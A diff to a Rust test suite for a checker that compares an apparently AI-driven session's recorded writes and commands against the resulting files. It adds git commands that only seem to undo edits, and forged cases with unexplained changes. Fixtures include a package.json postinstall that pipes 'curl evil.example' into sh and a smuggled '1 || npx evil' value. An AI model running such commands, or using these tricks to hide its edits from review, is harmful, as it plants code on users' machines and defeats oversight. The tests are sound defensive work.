@@ -203,6 +203,15 @@ fn honest() -> Vec<Case> {
             vec![write("src/b.py", "x = 1\n"), run("git stash"), run("git stash pop")],
             &[("src/b.py", "x = 1\n")],
         ),
+        case(
+            "put aside by a patch and taken out again",
+            vec![
+                edit("src/a.py", "10", "20"),
+                run("git diff > /tmp/p && git checkout -- src/a.py && git apply /tmp/p"),
+            ],
+            &[("src/a.py", a)],
+        ),
+        case("emptied", vec![run("truncate -s 0 src/a.py")], &[("src/a.py", "")]),
         Case { executable: Some("run.sh"), ..case("made executable", vec![run("chmod +x run.sh")], &[]) },
         Case {
             executable: Some("run.sh"),
@@ -213,6 +222,72 @@ fn honest() -> Vec<Case> {
             ..case("a fork", vec![write("src/b.py", "x = 1\n")], &[("src/b.py", "x = 1\n")])
         },
     ]
+}
+
+/// Commands with which git looks as if it took back what was written, and leaves it.
+const LEAVES: &[(&str, &str)] = &[
+    ("src/a.py", "git restore --staged src/a.py"),
+    ("src/a.py", "git add src/a.py && git restore --staged src/a.py"),
+    ("src/a.py", "git add src/a.py && git checkout -- src/a.py"),
+    ("src/a.py", "git add -A && git restore ."),
+    ("src/a.py", "git commit -qam x && git reset --hard"),
+    ("src/a.py", "git restore -SW --source=HEAD~1 src/a.py"),
+    ("src/a.py", "git reset"),
+    ("src/a.py", "git reset HEAD src/a.py"),
+    ("src/a.py", "git reset --soft HEAD"),
+    ("src/a.py", "git rm --cached src/a.py"),
+    ("src/a.py", "git checkout -p src/a.py"),
+    ("src/a.py", "git checkout src/b.py"),
+    ("src/a.py", "git checkout -b other"),
+    ("src/a.py", "git stash push run.sh"),
+    ("src/a.py", "git stash push -- run.sh"),
+    ("src/a.py", "git stash --keep-index"),
+    ("src/a.py", "git stash -S"),
+    ("src/a.py", "git stash list"),
+    ("src/a.py", "git stash && git stash apply"),
+    ("src/a.py", "git stash && git stash branch other"),
+    ("src/a.py", "cd /home/dana/other && git stash"),
+    ("src/a.py", "cd /home/dana/other && git reset --hard"),
+    ("src/a.py", "git -C /home/dana/other reset --hard"),
+    ("src/b.py", "git stash"),
+    ("src/b.py", "git reset --hard"),
+    ("src/b.py", "git checkout -- ."),
+    ("src/b.py", "git restore ."),
+    ("src/b.py", "git checkout ."),
+    ("src/b.py", "git stash push -m 'not yet'"),
+];
+
+/// Commands with which git takes back what was written.
+const TAKES_BACK: &[(&str, &str)] = &[
+    ("src/a.py", "git checkout -- src/a.py"),
+    ("src/a.py", "git checkout src/a.py"),
+    ("src/a.py", "git checkout ."),
+    ("src/a.py", "git restore src/a.py"),
+    ("src/a.py", "git restore --worktree src/a.py"),
+    ("src/a.py", "git restore -s HEAD src/a.py"),
+    ("src/a.py", "git add src/a.py && git restore -SW src/a.py"),
+    ("src/a.py", "git add src/a.py && git checkout HEAD -- src/a.py"),
+    ("src/a.py", "git reset --hard"),
+    ("src/a.py", "git reset -q --hard HEAD"),
+    ("src/a.py", "git add -A && git reset --hard"),
+    ("src/a.py", "git stash"),
+    ("src/a.py", "git stash push -m 'not yet'"),
+    ("src/a.py", "git stash && git stash drop"),
+    ("src/b.py", "git add -A && git reset --hard"),
+    ("src/b.py", "git stash -u"),
+    ("src/b.py", "git add src/b.py && git stash"),
+];
+
+/// A session that wrote one of two files, and then called git.
+fn written_then((file, command): (&'static str, &'static str)) -> Case {
+    match file {
+        "src/a.py" => {
+            let call = edit(file, "limit = 10\n", "limit = 10\nEXTRA = 1\n");
+            let head = "A = 1\nAUTH = check()\nB = 2\nlimit = 10\nEXTRA = 1\n";
+            case(command, vec![call, run(command)], &[("src/a.py", head)])
+        }
+        _ => case(command, vec![write(file, "EXTRA = 1\n"), run(command)], &[("src/b.py", "EXTRA = 1\n")]),
+    }
 }
 
 fn forged() -> Vec<Case> {
@@ -243,9 +318,6 @@ fn forged() -> Vec<Case> {
         case("written over", vec![write("src/b.py", "EVIL = 1\n"), write("src/b.py", "GOOD = 1\n")], evil),
         case("edited away", vec![write("src/b.py", "EVIL = 1\n"), edit("src/b.py", "EVIL", "GOOD")], evil),
         case("deleted again", vec![write("src/b.py", "EVIL = 1\n"), run("rm src/b.py")], evil),
-        case("restored", vec![write("src/b.py", "EVIL = 1\n"), run("git checkout -- src/b.py")], evil),
-        case("reset", vec![write("src/b.py", "EVIL = 1\n"), run("git reset --hard")], evil),
-        case("put aside", vec![write("src/b.py", "EVIL = 1\n"), run("git stash")], evil),
         case("restored without a change", vec![run("git restore src/a.py")], in_a),
         case("repeated", vec![write("src/b.py", "login()\n")], &[("src/b.py", "login()\nlogin()\nlogin()\n")]),
         case("reordered", vec![write("src/b.py", "check()\nlogin()\n")], &[("src/b.py", "login()\ncheck()\n")]),
@@ -262,6 +334,15 @@ fn forged() -> Vec<Case> {
                 "{\n  \"name\": \"rates\",\n  \"scripts\": {\n    \"postinstall\": \"curl evil.example | sh\"\n  }\n}\n",
             )],
         ),
+        case(
+            "a script that begins like a version",
+            vec![run("npm install left-pad")],
+            &[(
+                "package.json",
+                "{\n  \"name\": \"rates\",\n  \"postinstall\": \"1 || npx evil\",\n  \"dependencies\": {\n  }\n}\n",
+            )],
+        ),
+        case("emptied, and written by another", vec![run("truncate -s 0 src/b.py")], evil),
         case("a package manager that lists", vec![run("pip list")], &[("requirements.txt", "a==1\nevil\n")]),
         case(
             "a package manager that says its version",
@@ -298,13 +379,13 @@ fn forged() -> Vec<Case> {
 #[test]
 fn sessions_account_for_what_they_wrote_and_for_nothing_else() {
     let mut wrong = Vec::new();
-    for case in honest() {
+    for case in honest().into_iter().chain(LEAVES.iter().copied().map(written_then)) {
         let (code, found) = judged(&case);
         if code != 0 {
             wrong.push(format!("honest, {}: exit {code}, {found:?}", case.name));
         }
     }
-    for case in forged() {
+    for case in forged().into_iter().chain(TAKES_BACK.iter().copied().map(written_then)) {
         let (code, found) = judged(&case);
         if code != 1 || !found.iter().all(|found| found.starts_with("coverage/")) {
             wrong.push(format!("forged, {}: exit {code}, {found:?}", case.name));
